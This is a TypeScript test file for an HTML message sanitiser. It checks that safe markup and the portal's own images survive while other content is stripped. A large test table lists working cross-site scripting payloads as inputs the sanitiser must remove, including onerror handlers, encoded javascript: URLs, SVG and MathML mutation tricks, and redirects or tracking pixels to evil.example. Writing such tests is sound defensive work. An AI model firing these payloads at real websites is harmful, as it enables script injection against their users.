import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { longestMarkup } from '../../../contract/limits.ts'
import { answersMeanwhile } from '../../testing/answers-meanwhile.ts'
import { cleanMessage, imagesIn, withImageSources } from './clean-message.ts'
import { framedLetter, toPlainText } from './letter.ts'

const api = 'https://portal.example.com'
const token = '0b8f3d1e-4c1a-4e0b-9f57-2f6a3c1d9e10'
const own = `${api}/v1/images/vic-${token}`
const clean = (html: string) => cleanMessage(html, api)

describe('a message keeps', () => {
  test.each([
    '<p>Hello <strong>Ana</strong>, <em>please</em> <u>read</u>.<br />Thanks</p>',
    '<ul><li>One</li><li>Two</li></ul><ol><li><p>Three</p></li></ol>',
    '<p><a href="https://example.com/a?b=1&amp;c=2">site</a> <a href="mailto:a@example.com">mail</a></p>',
    `<p><img src="${own}" alt="The meter" width="200" /></p>`,
    '<p>مرحبا بالعالم 🔑 façade &amp; 5 &lt; 6</p>',
  ])('%s', (html) => {
    expect(clean(html)).toBe(html)
  })

  test('other words for the same markup', () => {
    expect(clean('<div><b>a</b> <i>b</i></div><h1>c</h1>')).toBe('<p><strong>a</strong> <em>b</em></p><p>c</p>')
  })
})

describe('an image', () => {
  test.each([
    ['', '200'],
    [' width="320"', '320'],
    [' width="1"', '16'],
    [' width="9999"', '544'],
    [' width="50%"', '50'],
    [' width="-5"', '16'],
    [' width="wide"', '200'],
  ])('with%s is %s pixels wide', (given, width) => {
    expect(clean(`<img src="${own}"${given}>`)).toBe(`<img src="${own}" alt="" width="${width}" />`)
  })

  test.each([
    'https://evil.example/track.gif',
    `https://evil.example/v1/images/vic-${token}`,
    `${api}.evil.example/v1/images/vic-${token}`,
    `//portal.example.com/v1/images/vic-${token}`,
    `${api}/v1/images/vic-${token}?x=1`,
    `${api}/v1/images/../me/shell`,
    `${api}/v1/auth/logout`,
    'data:image/png;base64,AAAA',
    'data:text/html,<script>alert(1)</script>',
    'javascript:alert(1)',
    'cid:image-1',
    'blob:https://portal.example.com/1',
    '/v1/images/1',
    '',
  ])('from %s is left out', (src) => {
    expect(clean(`<p>a<img src="${src}" alt="x">b</p>`)).toBe('<p>ab</p>')
  })

  test('is found, and its address replaced', () => {
    const html = clean(`<p><img src="${own}"><img src="${own}"></p>`)
    expect(imagesIn(html, api)).toEqual([{ state: 'vic', token }])
    expect(withImageSources(html, api, (image) => `cid:${image.token}`)).toBe(
      `<p><img src="cid:${token}" alt="" width="200" /><img src="cid:${token}" alt="" width="200" /></p>`,
    )
  })
})

describe('a refused link becomes its text, and the links around it stay whole:', () => {
  const ok = '<a href="https://ok.example">good</a>'
  test.each([
    ['followed by another', `<a href="/x">bad</a> ${ok} rest`, `bad ${ok} rest`],
    ['between others', `${ok}<a href="data:x">bad</a>${ok} rest`, `${ok}bad${ok} rest`],
    ['in its own paragraph', `<p><a href="/x">bad</a></p><p>${ok} rest</p>`, `<p>bad</p><p>${ok} rest</p>`],
    ['inside one', `<a href="https://ok.example">go<a href="/x">o</a>d</a> rest`, `${ok} rest`],
    ['around one', `<a href="/x">bad ${ok} bad</a> ${ok} rest`, `bad ${ok} bad ${ok} rest`],
    ['never closed', `<p><a href="/x">bad</p><p>${ok} rest</p>`, `<p>bad</p><p>${ok} rest</p>`],
    ['before one never closed', '<a href="/x">bad</a> <a href="https://ok.example">good', `bad ${ok}`],
    ['in capitals', `<A HREF="JAVASCRIPT:alert(1)">bad</A> ${ok} rest`, `bad ${ok} rest`],
    ['with an encoded scheme', `<a href="&#x6a;avascript&colon;alert(1)">bad</a> ${ok} rest`, `bad ${ok} rest`],
    ['without an address', `<a name="x">bad</a> ${ok} rest`, `bad ${ok} rest`],
    ['with markup', `<a href="/x"><b>bad</b><br></a> ${ok}`, `<strong>bad</strong><br /> ${ok}`],
  ])('%s', (_, html, result) => {
    expect(clean(html)).toBe(result)
  })
})

const allowed = new RegExp(
  [
    '</?(?:p|strong|em|u|ul|ol|li)>|<br />|</a>',
    '<a href="(?:https?://|mailto:)[^"<>]*">',
    `<img src="${own}" alt="[^"<>]*" width="\\d+" />`,
  ].join('|'),
  'gi',
)
/** Every tag is closed by its own, so that nothing reaches over what follows the message. */
function expectClosed(result: string): void {
  const open: string[] = []
  for (const [, slash, tag = ''] of result.matchAll(/<(\/?)(p|strong|em|u|ul|ol|li|a|span)\b[^>]*>/gi))
    if (slash === '') open.push(tag)
    else expect(open.pop()).toBe(tag)
  expect(open).toEqual([])
}

/** The result is text and exactly the allowed tags. Parsing it again reveals nothing else. */
function expectClean(result: string): void {
  expectClosed(result)
  const text = result.replaceAll(allowed, '')
  expect(text).not.toMatch(/[<>]/)
  expect(clean(result).replaceAll(allowed, '')).toBe(text)
}

describe('an attack is removed:', () => {
  test.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    `<img src="${own}" onerror="alert(1)" onload=alert(1)>`,
    `<img src="${own}" alt='"><script>alert(1)</script>'>`,
    '<img/src="x"/onerror=alert(1)//',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/v1/auth/logout">x</a>',
    '<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
    '<p style="background:url(https://evil.example/t.gif)">x</p>',
    '<p style="background:url(\'javascript:alert(1)\')">x</p>',
    '<style>@import url(https://evil.example/a.css); body{display:none}</style>x',
    '<div style="position:fixed">x</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href=https://evil.example/a.css>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><p>x</p>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<p id="__proto__" class="x" data-x="1">x</p>',
    '<a href="https://example.com" target="_blank" ping="https://evil.example">x</a>',
    '<table background="https://evil.example/t.gif"><tr><td>x</td></tr></table>',
    '<video src=x onerror=alert(1)></video><audio src=x></audio>',
    '<img srcset="https://evil.example/t.gif 1x">',
    '<details open ontoggle=alert(1)>x</details>',
    '<p><a href="https://example.com"><a href="javascript:alert(1)">x</a></a></p>',
    `${'<ul><li>'.repeat(200)}x`,
    `${'<b>'.repeat(1000)}x`,
  ])('%s', (html) => {
    expectClean(clean(html))
  })

  test('any mixture of its pieces', () => {
    // prettier-ignore
    const pieces = [
      '<', '>', '"', "'", '/', '=', ' ', '&lt;', '&#', '<!--', '-->', '<p', '<a href=', '<a href="/x">', '<a href="https://ok.example">', '</a>', '<img src=', 'javascript:', own,
      'onerror=', '<svg>', '<math>', '<style>', '</style>', '<script', '</script>', '<b>', '</b>', '<li>', 'x', '\0', '\n',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 25 }), (parts) => {
        expectClean(clean(parts.join('')))
      }),
      { numRuns: 500 },
    )
  })
})

describe('the limit of 500 characters', () => {
  const tooLong = { code: 'rule-broken', fields: { message: 'Message should be 500 characters or less' } }

  test('counts what the reader sees, an emoji as one', () => {
    expect(clean(`<p><strong>${'🔑'.repeat(500)}</strong></p>`)).toContain('🔑')
    expect(() => clean(`<p>${'🔑'.repeat(501)}</p>`)).toThrow(expect.objectContaining(tooLong))
  })

  test('cannot be avoided with markup that looks hidden', () => {
    expect(() => clean(`<styles>${'x'.repeat(501)}</styles>`)).toThrow(expect.objectContaining(tooLong))
  })
})

test.each([
  '<p>',
  '</p>',
  '<li>',
  '<b><i>',
  '<',
  '&',
  '<a href=http://x>',
  '<a href="<!---->',
  '<br>',
  '<img src=" alt="',
])('the longest markup of %s is cleaned and written as text at once', async (piece) => {
  await answersMeanwhile(async () => {
    const html = piece.repeat(longestMarkup / piece.length)
    try {
      toPlainText(framedLetter(clean(html), { heading: '', senderName: '', footer: [] }))
    } catch (error) {
      expect(error).toMatchObject({ code: 'rule-broken' })
    }
  })
})
